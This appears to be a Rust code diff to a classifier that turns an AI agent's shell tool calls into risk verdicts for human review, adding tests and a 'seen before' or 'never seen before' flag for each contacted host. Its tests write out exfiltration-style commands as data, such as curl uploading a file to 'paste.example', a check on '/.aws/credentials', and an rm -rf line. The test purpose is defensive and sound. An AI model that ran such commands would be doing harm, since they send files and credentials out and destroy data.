@@ -6,6 +6,8 @@
 use ccc_protocol::bodies::{Access, Care, Class, Facts, Gravity, Place, Verdict, Word};
 use serde_json::{Map, Value};
 
+use crate::facts::is_loopback;
+
 use Care::{Always, No, WhereLong};
 use Gravity::{Grave, Odd, Plain};
 
@@ -92,16 +94,17 @@ const TABLE: &[Row] = &[
     row(&[Class::Bookkeeping], Plain, No, "notes", "keeps the agent's own books"),
 ];
 
-/// What a `use-tool` request with these parameters and facts comes to.
+/// What a `use-tool` request with these parameters and facts comes to; `known` are those of its hosts that were seen before it, where
+/// anybody kept that.
 #[must_use]
-pub fn of_call(params: &Map<String, Value>, facts: &Facts) -> Verdict {
+pub fn of_call(params: &Map<String, Value>, facts: &Facts, known: Option<&[String]>) -> Verdict {
     let found = TABLE.iter().find(|row| row.fits(facts));
     let Some(found) = found else { return nothing_read() };
     Verdict {
         gravity: found.gravity,
         headline: found.headline.to_owned(),
         short: found.short.to_owned(),
-        objects: objects(found, facts),
+        objects: objects(found, facts, known),
         care: care(found, params),
         word: word(found, facts),
     }
@@ -158,7 +161,7 @@ fn takes(value: &Value, left: &mut usize) -> bool {
 }
 
 /// The reasons of the classes in the headline, then those of the other graver ones, the gravest first.
-fn objects(found: &Row, facts: &Facts) -> Vec<String> {
+fn objects(found: &Row, facts: &Facts, known: Option<&[String]>) -> Vec<String> {
     let singles = TABLE.iter().filter(|row| row.gravity >= Odd && row.fits(facts)).flat_map(|row| row.classes);
     let mut classes: Vec<Class> = vec![];
     for class in found.classes.iter().chain(singles) {
@@ -166,11 +169,17 @@ fn objects(found: &Row, facts: &Facts) -> Vec<String> {
             classes.push(*class);
         }
     }
-    let reasons = classes.iter().filter_map(|class| facts.classes.get(class));
+    let own = found.classes.len();
+    let reasons =
+        |classes: &[Class]| -> Vec<&String> { classes.iter().filter_map(|class| facts.classes.get(class)).collect() };
+    let (first, rest) = classes.split_at_checked(own).unwrap_or((&classes, &[]));
     let mut objects: Vec<String> = vec![];
-    for reason in reasons {
-        if !objects.iter().any(|known| known == reason) {
-            objects.push(cut(reason));
+    let new = further_new_hosts(&reasons(&classes), facts, known);
+    let first = reasons(first).into_iter().map(|reason| told(reason, facts, known));
+    let rest = reasons(rest).into_iter().map(|reason| told(reason, facts, known));
+    for object in first.chain(new).chain(rest) {
+        if !objects.contains(&object) {
+            objects.push(object);
         }
     }
     if objects.len() > Verdict::OBJECTS_MAX {
@@ -181,13 +190,42 @@ fn objects(found: &Row, facts: &Facts) -> Vec<String> {
     objects
 }
 
+/// A reason, and whether the host in it was seen before.
+fn told(reason: &str, facts: &Facts, known: Option<&[String]>) -> String {
+    let of_host = |class| facts.classes.get(&class).is_some_and(|found| found == reason);
+    let is_told = of_host(Class::Network) || of_host(Class::Upload);
+    let host = facts.hosts.iter().find(|host| is_told && reason.ends_with(&format!("`{host}`")));
+    let seen = match (known, host) {
+        (Some(known), Some(host)) if known.contains(host) => " (seen before)",
+        (Some(_), Some(_)) => " (never seen before)",
+        _ => "",
+    };
+    cut(reason, Verdict::OBJECT_CHARS_MAX - seen.len()) + seen
+}
+
+/// Hosts that no reason names and that were never seen before: what was seen before hides none.
+fn further_new_hosts(reasons: &[&String], facts: &Facts, known: Option<&[String]>) -> Option<String> {
+    let known = known?;
+    let is_named = |host: &String| reasons.iter().any(|reason| reason.ends_with(&format!("`{host}`")));
+    let new = facts.hosts.iter().filter(|host| !known.contains(host) && !is_loopback(host) && !is_named(host));
+    let new: Vec<&String> = new.collect();
+    let first = cut(new.first()?, HOST_CHARS_MAX);
+    Some(match new.len() {
+        1 => format!("also contacts `{first}` (never seen before)"),
+        many => format!("also contacts {many} hosts that were never seen before, among them `{first}`"),
+    })
+}
+
+/// Of a host so much is told among others.
+const HOST_CHARS_MAX: usize = 60;
+
 /// A reason, in the middle of which something is left out where it is long: what a path or host ends with tells most.
-fn cut(reason: &str) -> String {
+fn cut(reason: &str, chars_max: usize) -> String {
     let count = reason.chars().count();
-    if count <= Verdict::OBJECT_CHARS_MAX {
+    if count <= chars_max {
         return reason.to_owned();
     }
-    let half = Verdict::OBJECT_CHARS_MAX / 2;
+    let half = chars_max / 2;
     let head: String = reason.chars().take(half).collect();
     let tail: String = reason.chars().skip(count - half + 1).collect();
     format!("{head}…{tail}")
@@ -258,7 +296,7 @@ mod tests {
 
     fn read(command: &str) -> Verdict {
         let params = params(&json!({ "command": command }));
-        of_call(&params, &of_request(&params, &Knowledge::default()))
+        of_call(&params, &of_request(&params, &Knowledge::default()), None)
     }
 
     #[test]
@@ -272,6 +310,30 @@ mod tests {
         assert_eq!(verdict.word.as_str(), "paste.example");
         assert!(verdict.objects.iter().any(|text| text.contains("/.aws/credentials")), "{:?}", verdict.objects);
         assert!(verdict.objects.iter().any(|text| text.contains("paste.example")), "{:?}", verdict.objects);
+    }
+
+    #[test]
+    fn of_a_host_it_is_said_whether_it_was_seen_before() {
+        let objects = |command: &str, known: Option<&[String]>| {
+            let params = params(&json!({ "command": command }));
+            of_call(&params, &of_request(&params, &Knowledge::default()), known).objects
+        };
+        let sends = "curl --data-binary @a.txt https://paste.example/";
+        let known = ["paste.example".to_owned()];
+        assert_eq!(objects(sends, Some(&[]))[0], "sends data to `paste.example` (never seen before)");
+        assert_eq!(objects(sends, Some(&known))[0], "sends data to `paste.example` (seen before)");
+        assert_eq!(objects(sends, None)[0], "sends data to `paste.example`", "of tickets that nobody kept it for");
+        assert_eq!(objects("curl https://docs.rs/x", Some(&[])), ["contacts `docs.rs` (never seen before)"]);
+        // A host that is no reason's own is not hidden behind one that was seen.
+        let two = format!("{sends}; curl --data-binary @a.txt https://other.example/; curl http://localhost:3000/");
+        let also = "also contacts `other.example` (never seen before)";
+        assert_eq!(objects(&two, Some(&known))[..2], ["sends data to `paste.example` (seen before)", also]);
+        let many = format!("{two}; curl https://third.example/");
+        let also = "also contacts 2 hosts that were never seen before, among them `other.example`";
+        assert_eq!(objects(&many, Some(&known))[1], also);
+        // What only looks like a host in another reason says nothing.
+        let removes = objects("rm -rf '/x/`docs.rs`'; curl https://docs.rs/", Some(&[]));
+        assert!(!removes.iter().any(|text| text.starts_with("removes") && text.ends_with("before)")), "{removes:?}");
     }
 
     #[test]
@@ -322,7 +384,7 @@ mod tests {
 
     #[test]
     fn a_call_of_which_nothing_was_read_needs_care() {
-        let verdict = of_call(&Map::new(), &Facts::default());
+        let verdict = of_call(&Map::new(), &Facts::default(), None);
         assert_eq!((verdict.gravity, verdict.care), (Odd, Always));
         assert!(needs_care(&Map::new(), &Facts::default()));
     }
@@ -332,7 +394,7 @@ mod tests {
         for class in Class::ALL {
             assert_eq!(Word::from(class).as_str(), class.as_str());
             let facts = Facts { classes: [(class, "why".to_owned())].into(), ..Facts::default() };
-            let verdict = of_call(&Map::new(), &facts);
+            let verdict = of_call(&Map::new(), &facts, None);
             assert_ne!(verdict.short, "unread", "{class:?}");
             assert_eq!(needs_care(&Map::new(), &facts), verdict.care == Always);
         }
